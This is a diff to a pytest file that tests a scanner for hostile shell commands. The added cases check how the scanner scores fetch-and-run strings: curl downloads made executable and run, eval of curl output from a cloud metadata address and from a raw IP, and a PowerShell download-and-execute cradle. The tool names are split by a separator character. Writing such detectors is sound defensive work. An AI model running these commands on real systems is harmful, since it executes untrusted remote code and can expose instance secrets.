@@ -100,6 +100,21 @@ def test_commands_that_are_only_quoted_are_worth_a_note(path: str, text: str, sc
     assert [hit.score for hit in hits if hit.rule == "reverse_shell_of_a_shell"] == [score]
 
 
+@pytest.mark.parametrize(
+    ("text", "scores"),
+    [
+        ('cu¦rl -fsSLo /tmp/a https://dl.example.org/a && echo "$SUM  /tmp/a" | sha256sum -c - && chm¦od +x /tmp/a && /tmp/a', {64}),
+        ("ev¦al $(cu¦rl -s http://169.254.169.254/latest/user-data)", {64}),
+        ("cu¦rl -fsSLo /tmp/a https://dl.example.org/a && chm¦od +x /tmp/a && /tmp/a", {78}),
+        ("cu¦rl -fsSLo /tmp/a https://dl.example.org/a && sha256sum -c s && chm¦od +x /tmp/a && /tmp/a\ncu¦rl http://203.0.113.5/b", {78}),
+        ("ev¦al $(cu¦rl -s http://203.0.113.5/a)", {64, 78}),
+    ],
+)
+def test_a_checked_download_and_the_machine_itself_are_worth_a_note(text: str, scores: set[int]) -> None:
+    hits = scanned().scan(content(text + "\n"), ("script",), "srv/a", text=True)[0]
+    assert {hit.score for hit in hits if hit.rule.startswith("script_fetches_and_runs")} == scores
+
+
 def test_a_known_installer_is_worth_a_note() -> None:
     script = "ie¦x ((New-Object Net.WebClient).Downlo¦adString('https://{}/install.ps1'))\n"
     addresses = ("community.chocolatey.org", "a.example", "a.example/community.chocolatey.org")
